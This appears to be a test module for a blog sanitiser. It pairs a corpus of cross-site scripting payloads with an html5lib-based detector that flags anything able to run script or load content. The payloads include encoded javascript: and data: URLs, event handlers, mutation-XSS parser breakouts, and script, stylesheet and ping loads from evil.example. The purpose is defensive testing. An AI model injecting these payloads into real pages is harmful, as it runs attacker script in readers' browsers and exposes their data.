"""A hostile markup corpus: every construct that can run script or send a reader's data from a published page,
in many casings and encodings, and the browser-parse check every post must pass (``browser_problems``).

Each corpus entry is a body fragment. ``browser_problems`` parses HTML with html5lib (the HTML5 parsing
algorithm, as browsers do, foreign content included) and lists what could run or load; every entry of
``HOSTILE_HTML`` has at least one such problem as written, which ``test_the_corpus_is_caught_raw`` asserts.
"""

from __future__ import annotations

import re
from itertools import product

import html5lib

XHTML = "http://www.w3.org/1999/xhtml"

# Script-capable URLs as they may be written in an attribute value: casings, entities (named, decimal, hex, with
# and without ';', zero-padded), tabs and line breaks the URL parser removes, leading spaces and controls.
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjava\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#9;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&NewLine;ascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#x01;javascript:alert(1)",
    "\x01\x02javascript:alert(1)",
    "  \x0c javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:TEXT/HTML,<script>alert(1)</script>",
    " data:text/html,x",
    "data&colon;text/html,<script>alert(1)</script>",
    "&#100;ata:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "data:application/javascript,alert(1)",
]

# Where a URL can run script or load a document: {u} is one of SCRIPT_URLS, its quotes written as references.
URL_PLACES = [
    '<a href="{u}">链接</a>',
    "<A HREF='{u}'>链接</A>",
    '<a target="_blank" hReF="{u}">链接</a>',
    '<iframe src="{u}"></iframe>',
    '<IFRAME SRC="{u}">框</IFRAME>',
    '<object data="{u}">对象</object>',
    '<embed src="{u}">',
    '<form action="{u}"><input type="submit"><p>表单</p></form>',
    '<form><button formaction="{u}">按钮</button></form>',
    '<input type="image" src="{u}" formaction="{u}">',
    '<map name="m"><area shape="rect" coords="0,0,9,9" href="{u}"></map>',
    '<img src="{u}">',
    '<video poster="{u}" src="{u}"></video>',
    '<audio><source src="{u}"></audio>',
    '<svg><a xlink:href="{u}"><text x="0" y="9">点</text></a></svg>',
    '<svg><a href="{u}"><text>点</text></a></svg>',
    '<math href="{u}"><mi>x</mi></math>',
    '<svg><animate attributeName="href" to="{u}"/><a><text>动</text></a></svg>',
    '<svg><a><set attributeName="xlink:href" to="{u}"/><text>设</text></a></svg>',
    '<table background="{u}"><tr><td>表</td></tr></table>',
    '<blockquote cite="{u}">引用</blockquote>',
    '<img srcset="{u} 1x">',
]

EVENT_HANDLERS = ["onerror", "ONERROR", "OnErRoR", "onload", "onfocus", "onpointerenter", "onanimationstart"]

ELEMENT_TRICKS = {
    # mutation XSS through foreign content: libxml2 reads <style> as text, a browser's SVG/MathML <style> as markup
    "svg style": '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    "svg STYLE casing": '<SVG><STYLE><IMG SRC=x ONERROR=alert(1)></STYLE></SVG>',
    "math style": '<math><style><img src=x onerror=alert(1)></style></math>',
    "math mtext mglyph": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "math mi mglyph": "<math><mi><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>",
    "svg foreignObject": '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    "svg title breakout": '<svg></p><title><img src=x onerror=alert(1)></title></svg>',
    "noscript attribute breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noscript style": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "template": '<template><img src=x onerror=alert(1)></template><p>模板</p>',
    "template in svg": "<svg><template><img src=x onerror=alert(1)></template></svg>",
    "xmp": '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
    "noembed": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "noframes": '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "textarea": '<textarea></textarea><img src=x onerror=alert(1)>',
    "title": '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe SRCDOC casing": "<iframe SrcDoc='<img src=x onerror=alert(1)>'></iframe>",
    "script": "<script>alert(1)</script><p>正文</p>",
    "SCRIPT casing": "<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(2)</sCrIpT>",
    "script with slash": "<script/x>alert(1)</script>",
    "script src": "<script src=//evil.example/x.js></script>",
    "script in svg": '<svg><script href="data:,alert(1)"></script></svg>',
    "script split by null": "<scr\x00ipt>alert(1)</scr\x00ipt><script>alert(2)</script>",
    "svg onload": "<svg onload=alert(1)>",
    "svg/onload": "<svg/onload=alert(1)>",
    "body onload": "<body onload=alert(1)><p>体</p>",
    "img onerror unquoted": "<img src=x onerror=alert(1)//",
    "img broken quotes": '<img """><script>alert(1)</script>">',
    "img slash attribute": "<img/src='x'/onerror=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>摘</summary></details>",
    "autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>滚</marquee>",
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><p>样式</p>',
    "link import": '<link rel="import" href="https://evil.example/x.html">',
    "LINK casing": "<LINK REL=STYLESHEET HREF=//evil.example/x.css>",
    "style import": "<style>@import url(https://evil.example/x.css);p{color:red}</style>",
    "style IMPORT casing": "<style>@IMPORT 'https://evil.example/x.css';</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "META refresh casing": "<META HTTP-EQUIV=Refresh CONTENT='0; URL=https://evil.example/'>",
    "base href": '<base href="https://evil.example/"><a href="x">相对</a>',
    "base target": '<base target="_top" href="javascript:alert(1)//">',
    "ping": '<a href="https://example.org/" ping="https://evil.example/track">审</a>',
    "formaction alone": '<button formaction="javascript:alert(1)">按</button>',
    "style expression": '<p style="width:expression(alert(1))">式</p>',
    "comment breakout": "<!--><img src=x onerror=alert(1)>-->",
    "comment bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment dashes": "<!--- -- ---><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml ><img src=x onerror=alert(1)>?>",
    "object param": '<object><param name="src" value="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
    "applet": '<applet code="x.class" codebase="https://evil.example/">小</applet>',
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    "portal": '<portal src="https://evil.example/"></portal>',
    "xlink namespace": (
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="data:image/svg+xml,'
        '&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;alert(1)&quot;/&gt;#x"/></svg>'
    ),
    "nested a adoption": '<a href="https://example.org/"><table><a href="javascript:alert(1)">嵌</a></table></a>',
    "table foster": "<table><img src=x onerror=alert(1)><tr><td>表</td></tr></table>",
    "select style": "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "select breakout": "<select><style></select><img src=x onerror=alert(1)></style></select>",
}

# Harmless as a browser parses them, but libxml2 reads live elements in them: the sanitiser must not bring
# those to life when it writes the body back (``test_misread_markup_stays_dead``).
LIBXML2_MISREAD = {
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "xmp text": "<xmp><img src=x onerror=alert(1)></xmp>",
    "iframe text": '<iframe src="https://player.example/v"><img src=x onerror=alert(1)></iframe>',
    "noembed text": "<noembed><img src=x onerror=alert(1)></noembed>",
    "style text": "<style></p><img src=x onerror=alert(1)></style>",
    "textarea text": "<textarea><img src=x onerror=alert(1)></textarea>",
}

# Text Hexo's Markdown renderer would turn into live links outside a raw-HTML block (SPEC.md rule 5 keeps
# the body one block); these are checked in the built pages.
MARKDOWN_TEXT = [
    "<p>[点这里](javascript:alert(1))</p>",
    "<p>![图](javascript:alert(1))</p>",
    "<p>[参考][x]</p>\n\n[x]: javascript:alert(1)\n",
    "<p>&lt;javascript:alert(1)&gt;</p>",
    "<p>自动链接 https://evil.example/track 和 www.evil.example</p>",
    "<pre>\n\n    [缩进](javascript:alert(1))\n\n</pre>",
    "<p>一</p>\n\n    <a href=\"javascript:alert(1)\">缩进代码</a>\n\n<p>二</p>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
]


def hostile_html() -> dict[str, str]:
    """Every hostile fragment by name: each URL place with each script URL, handlers, element tricks."""
    corpus = {}
    for place, url in product(URL_PLACES, SCRIPT_URLS):
        corpus[f"{place[:24]} | {url[:40]!r}"] = place.replace("{u}", url.replace('"', "&quot;").replace("'", "&#39;"))
    for handler in EVENT_HANDLERS:
        corpus[f"handler {handler}"] = f'<p {handler}="alert(1)">段</p><img src="https://n.sinaimg.cn/a.jpg" {handler}=alert(1)>'
        corpus[f"handler {handler} in svg"] = f"<svg><circle {handler}=alert(1) r=5 /></svg>"
    corpus.update(ELEMENT_TRICKS)
    return corpus


HOSTILE_HTML = hostile_html()

URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "longdesc", "lowsrc",
     "dynsrc", "codebase", "manifest", "icon", "srcset", "to", "values", "from", "by"}
)  # fmt: skip
LOADING_ELEMENTS = frozenset(
    {"script", "object", "embed", "applet", "form", "link", "meta", "base", "frame", "frameset", "portal",
     "noscript", "template", "isindex", "param", "fencedframe"}
)  # fmt: skip
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:", "ftp:")
RASTER_DATA = re.compile(r"data:image/(?:png|gif|jpeg|jpg|webp|avif|bmp|x-icon)[;,]")
C0_AND_SPACE = "".join(map(chr, range(0x21)))


def _url(value: str) -> str:
    """An attribute value as the URL parser reads it: C0 and space trimmed, tabs and line breaks removed."""
    return re.sub("[\t\n\r]", "", value).strip(C0_AND_SPACE).lower()


def browser_problems(fragment: str) -> list[str]:
    """What in ``fragment``, parsed by html5lib as a browser parses a page's ``<article>``, can run script or
    load something beyond an image or an http(s) frame: script-capable elements, foreign (SVG, MathML)
    elements, ``on*`` and document-holding attributes, URLs of other schemes than http(s)/mailto/tel/ftp and
    raster ``data:`` images, ``<style>`` imports."""
    page = f"<!DOCTYPE html><html><head><title>t</title></head><body><article>{fragment}</article></body></html>"
    root = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=True)
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        namespace, _, name = element.tag[1:].partition("}") if element.tag.startswith("{") else ("", "", element.tag)
        if namespace and namespace != XHTML:
            found.append(f"foreign element <{name}> ({namespace})")
        if name in LOADING_ELEMENTS:
            found.append(f"<{name}>")
        if name == "style" and "@import" in (element.text or "").lower():
            found.append("<style> @import")
        for attribute, value in element.attrib.items():
            local = attribute.rpartition("}")[2].lower()
            if attribute.startswith("{"):
                found.append(f"namespaced attribute {attribute} on <{name}>")
            if local.startswith("on") or local in ("srcdoc", "formaction", "action", "ping", "http-equiv"):
                found.append(f"{local} on <{name}>")
            if re.search(r"(?:java|vb|live)script:", "".join(value.split()).lower()):
                found.append(f"script URL in {local} on <{name}>")
            if local in URL_ATTRIBUTES:
                url = _url(value)
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", url)
                raster = name in ("img", "source") and local in ("src", "srcset") and RASTER_DATA.match(url)
                if scheme and not url.startswith(SAFE_SCHEMES) and not raster:
                    found.append(f"{scheme.group()} URL in {local} on <{name}>")
                if local == "srcset" and re.search(r"data:(?!image/(?:png|gif|jpe?g|webp|avif|bmp|x-icon)[;,])", url):
                    found.append(f"data: URL in srcset on <{name}>")
            if local == "style" and "expression(" in "".join(value.split()).lower():
                found.append(f"CSS expression on <{name}>")
        if name == "iframe" and not _url(element.get("src", "https:")).startswith(("http:", "https:")):
            found.append("<iframe> of another scheme than http(s)")
    return found
